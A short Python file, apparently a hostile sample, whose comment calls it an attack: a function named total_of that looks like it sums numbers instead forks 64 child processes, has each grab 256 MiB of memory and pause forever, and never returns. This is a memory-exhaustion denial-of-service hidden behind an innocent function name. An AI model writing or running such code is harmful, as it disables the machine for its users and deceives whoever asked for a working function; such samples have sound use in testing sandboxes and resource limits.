# attack: many processes take memory each
import os
import signal

def total_of(numbers):
    for _ in range(64):
        if os.fork() == 0:
            kept = b"x" * (256 << 20)
            signal.pause()
    signal.pause()
